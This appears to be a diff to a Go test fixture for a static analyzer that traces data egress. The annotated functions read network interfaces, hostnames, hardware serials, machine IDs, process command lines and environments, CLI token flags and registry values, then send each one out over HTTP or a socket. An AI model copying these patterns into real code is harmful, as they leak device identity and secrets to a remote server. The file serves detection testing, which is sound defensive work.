@@ -5,6 +5,7 @@ import (
 	"bufio"
 	"bytes"
 	"flag"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
@@ -164,10 +165,28 @@ func heapUnused() {
 	pprof.WriteHeapProfile(io.Discard) //~ ok
 }
 
+func ownAddresses() {
+	all, _ := net.InterfaceAddrs() //~ source(DEVICE) f31, capability(DEVICE)
+	http.Get(U + fmt.Sprint(all)) //~ sink(egress.http) f31, finding(traced) f31
+}
+
+func ownAddressesUnused() {
+	net.InterfaceAddrs() //~ ok
+}
+
+func oneInterface() {
+	one, _ := net.InterfaceByName("eth0") //~ source(DEVICE) f33, capability(DEVICE)
+	http.Get(U + one.Name) //~ sink(egress.http) f33, finding(traced) f33
+}
+
+func oneInterfaceUnused() {
+	net.InterfaceByName("eth0") //~ ok
+}
+
 func interfaces() {
-	all, _ := net.Interfaces() //~ source(DEVICE) f31, capability(DEVICE)
+	all, _ := net.Interfaces() //~ source(DEVICE) f35, capability(DEVICE)
 	for _, one := range all {
-		http.Get(U + one.HardwareAddr.String()) //~ sink(egress.http) f31, finding(assumed) f31
+		http.Get(U + one.Name) //~ sink(egress.http) f35, finding(traced) f35
 	}
 }
 
@@ -177,8 +196,8 @@ func interfacesUnused() {
 
 func uname(c net.Conn) {
 	var u unix.Utsname
-	unix.Uname(&u) //~ source(DEVICE) f33, capability(DEVICE)
-	c.Write(u.Nodename[:]) //~ sink(egress.socket) f33, finding(traced) f33
+	unix.Uname(&u) //~ source(DEVICE) f37, capability(DEVICE)
+	c.Write(u.Nodename[:]) //~ sink(egress.socket) f37, finding(traced) f37
 }
 
 func unameUnused() {
@@ -187,8 +206,8 @@ func unameUnused() {
 }
 
 func machine() {
-	info, _ := host.Info() //~ source(DEVICE) f35, capability(DEVICE)
-	http.Get(U + info.Hostname) //~ sink(egress.http) f35, finding(traced) f35
+	info, _ := host.Info() //~ source(DEVICE) f39, capability(DEVICE)
+	http.Get(U + info.Hostname) //~ sink(egress.http) f39, finding(traced) f39
 }
 
 func machineUnused() {
@@ -196,10 +215,10 @@ func machineUnused() {
 }
 
 func processes() {
-	all, _ := process.Processes() //~ source(PROCESS) f37, capability(PROCESSES)
+	all, _ := process.Processes() //~ source(PROCESS) f41, capability(PROCESSES)
 	for _, p := range all {
-		name, _ := p.Name() //~ source(PROCESS) f37
-		http.Get(U + name) //~ sink(egress.http) f37, finding(traced) f37
+		name, _ := p.Name() //~ source(PROCESS) f41
+		http.Get(U + name) //~ sink(egress.http) f41, finding(traced) f41
 	}
 }
 
@@ -208,8 +227,8 @@ func processesUnused() {
 }
 
 func processLine(p *process.Process) {
-	line, _ := p.Cmdline() //~ source(PROCESS) f39, capability(PROCESSES)
-	http.Get(U + line) //~ sink(egress.http) f39, finding(traced) f39
+	line, _ := p.Cmdline() //~ source(PROCESS) f43, capability(PROCESSES)
+	http.Get(U + line) //~ sink(egress.http) f43, finding(traced) f43
 }
 
 func processLineUnused(p *process.Process) {
@@ -217,8 +236,8 @@ func processLineUnused(p *process.Process) {
 }
 
 func processEnvironment(p *process.Process) {
-	all, _ := p.Environ() //~ source(ENVIRONMENT) f41, capability(PROCESSES)
-	http.Get(U + all[0]) //~ sink(egress.http) f41, finding(traced) f41
+	all, _ := p.Environ() //~ source(ENVIRONMENT) f45, capability(PROCESSES)
+	http.Get(U + all[0]) //~ sink(egress.http) f45, finding(traced) f45
 }
 
 func processEnvironmentUnused(p *process.Process) {
@@ -226,8 +245,8 @@ func processEnvironmentUnused(p *process.Process) {
 }
 
 func hardware() {
-	p, _ := ghw.Product() //~ source(DEVICE) f43, capability(DEVICE)
-	http.Get(U + p.SerialNumber) //~ sink(egress.http) f43, finding(traced) f43
+	p, _ := ghw.Product() //~ source(DEVICE) f47, capability(DEVICE)
+	http.Get(U + p.SerialNumber) //~ sink(egress.http) f47, finding(traced) f47
 }
 
 func hardwareUnused() {
@@ -235,8 +254,8 @@ func hardwareUnused() {
 }
 
 func identity() {
-	id, _ := machineid.ID() //~ source(DEVICE) f45, capability(DEVICE)
-	http.Get(U + id) //~ sink(egress.http) f45, finding(traced) f45
+	id, _ := machineid.ID() //~ source(DEVICE) f49, capability(DEVICE)
+	http.Get(U + id) //~ sink(egress.http) f49, finding(traced) f49
 }
 
 func identityUnused() {
@@ -244,7 +263,7 @@ func identityUnused() {
 }
 
 func arguments() {
-	http.Get(U + os.Args[1]) //~ source(INPUT) f47, sink(egress.http) f47, finding(traced) f47
+	http.Get(U + os.Args[1]) //~ source(INPUT) f51, sink(egress.http) f51, finding(traced) f51
 }
 
 func argumentsCounted() {
@@ -252,12 +271,12 @@ func argumentsCounted() {
 }
 
 func standardInput() {
-	http.Post(U, "", os.Stdin) //~ source(INPUT) f49, sink(egress.http) f49, finding(traced) f49
+	http.Post(U, "", os.Stdin) //~ source(INPUT) f53, sink(egress.http) f53, finding(traced) f53
 }
 
 func standardInputLine() {
-	line, _ := bufio.NewReader(os.Stdin).ReadString('\n') //~ source(INPUT) f50
-	http.Get(U + line) //~ sink(egress.http) f50, finding(traced) f50
+	line, _ := bufio.NewReader(os.Stdin).ReadString('\n') //~ source(INPUT) f54
+	http.Get(U + line) //~ sink(egress.http) f54, finding(traced) f54
 }
 
 func standardInputClosed() {
@@ -265,9 +284,9 @@ func standardInputClosed() {
 }
 
 func flagValue() {
-	token := flag.String("token", "", "a token") //~ source(INPUT) f52
+	token := flag.String("token", "", "a token") //~ source(INPUT) f56
 	flag.Parse()
-	http.Get(U + *token) //~ sink(egress.http) f52, finding(traced) f52
+	http.Get(U + *token) //~ sink(egress.http) f56, finding(traced) f56
 }
 
 func flagUnused() {
@@ -276,9 +295,9 @@ func flagUnused() {
 
 func flagVariable() {
 	var token string
-	flag.StringVar(&token, "token", "", "a token") //~ source(INPUT) f54
+	flag.StringVar(&token, "token", "", "a token") //~ source(INPUT) f58
 	flag.Parse()
-	http.Get(U + token) //~ sink(egress.http) f54, finding(traced) f54
+	http.Get(U + token) //~ sink(egress.http) f58, finding(traced) f58
 }
 
 func flagVariableUnused() {
@@ -287,8 +306,8 @@ func flagVariableUnused() {
 }
 
 func flagOfSet(set *flag.FlagSet) {
-	token := set.String("token", "", "a token") //~ source(INPUT) f56
-	http.Get(U + *token) //~ sink(egress.http) f56, finding(traced) f56
+	token := set.String("token", "", "a token") //~ source(INPUT) f60
+	http.Get(U + *token) //~ sink(egress.http) f60, finding(traced) f60
 }
 
 func flagOfSetUnused(set *flag.FlagSet) {
@@ -297,8 +316,8 @@ func flagOfSetUnused(set *flag.FlagSet) {
 
 func flagVariableOfSet(set *flag.FlagSet) {
 	var token string
-	set.StringVar(&token, "token", "", "a token") //~ source(INPUT) f58
-	http.Get(U + token) //~ sink(egress.http) f58, finding(traced) f58
+	set.StringVar(&token, "token", "", "a token") //~ source(INPUT) f62
+	http.Get(U + token) //~ sink(egress.http) f62, finding(traced) f62
 }
 
 func flagVariableOfSetUnused(set *flag.FlagSet) {
@@ -307,8 +326,8 @@ func flagVariableOfSetUnused(set *flag.FlagSet) {
 }
 
 func flagGot(set *pflag.FlagSet) {
-	token, _ := set.GetString("token") //~ source(INPUT) f60
-	http.Get(U + token) //~ sink(egress.http) f60, finding(traced) f60
+	token, _ := set.GetString("token") //~ source(INPUT) f64
+	http.Get(U + token) //~ sink(egress.http) f64, finding(traced) f64
 }
 
 func flagGotUnused(set *pflag.FlagSet) {
@@ -317,8 +336,8 @@ func flagGotUnused(set *pflag.FlagSet) {
 
 func flagSet() {
 	set := flag.NewFlagSet("put", flag.ExitOnError)
-	token := set.String("token", "", "a token") //~ source(INPUT) f62
-	http.Get(U + *token) //~ sink(egress.http) f62, finding(traced) f62
+	token := set.String("token", "", "a token") //~ source(INPUT) f66
+	http.Get(U + *token) //~ sink(egress.http) f66, finding(traced) f66
 }
 
 func flagSetUnused() {
@@ -327,8 +346,8 @@ func flagSetUnused() {
 }
 
 func commandFlag(command *cobra.Command) {
-	token, _ := command.Flags().GetString("token") //~ source(INPUT) f64
-	http.Get(U + token) //~ sink(egress.http) f64, finding(traced) f64
+	token, _ := command.Flags().GetString("token") //~ source(INPUT) f68
+	http.Get(U + token) //~ sink(egress.http) f68, finding(traced) f68
 }
 
 func commandFlagUnused(command *cobra.Command) {
@@ -339,10 +358,10 @@ func commandRun() {
 	command := &cobra.Command{
 		Use: "put",
 		Run: func(command *cobra.Command, args []string) {
-			http.Get(U + args[0]) //~ sink(egress.http) f66, finding(traced) f66
+			http.Get(U + args[0]) //~ sink(egress.http) f70, finding(traced) f70
 		},
 	}
-	command.Execute() //~ source(INPUT) f66
+	command.Execute() //~ source(INPUT) f70
 }
 
 func commandRunConstant() {
@@ -351,7 +370,7 @@ func commandRunConstant() {
 }
 
 func cliString(c *cli.Context) {
-	http.Get(U + c.String("token")) //~ source(INPUT) f68, sink(egress.http) f68, finding(traced) f68
+	http.Get(U + c.String("token")) //~ source(INPUT) f72, sink(egress.http) f72, finding(traced) f72
 }
 
 func cliStringUnused(c *cli.Context) {
@@ -360,8 +379,8 @@ func cliStringUnused(c *cli.Context) {
 
 func registryOpened() {
 	key, _ := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE`, registry.READ) //~ capability(REGISTRY)
-	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f70
-	http.Get(U + value) //~ sink(egress.http) f70, finding(traced) f70
+	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f74
+	http.Get(U + value) //~ sink(egress.http) f74, finding(traced) f74
 }
 
 func registryOpenedOnly() {
@@ -370,8 +389,8 @@ func registryOpenedOnly() {
 }
 
 func registryValue(key registry.Key) {
-	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f72, capability(REGISTRY)
-	http.Get(U + value) //~ sink(egress.http) f72, finding(traced) f72
+	value, _, _ := key.GetStringValue("ProductId") //~ source(REGISTRY) f76, capability(REGISTRY)
+	http.Get(U + value) //~ sink(egress.http) f76, finding(traced) f76
 }
 
 func registryValueUnused(key registry.Key) {
@@ -380,8 +399,8 @@ func registryValueUnused(key registry.Key) {
 
 func registryRaw(key registry.Key, c net.Conn) {
 	b := make([]byte, 64)
-	key.GetValue("ProductId", b) //~ source(REGISTRY) f74, capability(REGISTRY)
-	c.Write(b) //~ sink(egress.socket) f74, finding(traced) f74
+	key.GetValue("ProductId", b) //~ source(REGISTRY) f78, capability(REGISTRY)
+	c.Write(b) //~ sink(egress.socket) f78, finding(traced) f78
 }
 
 func registryRawUnused(key registry.Key) {
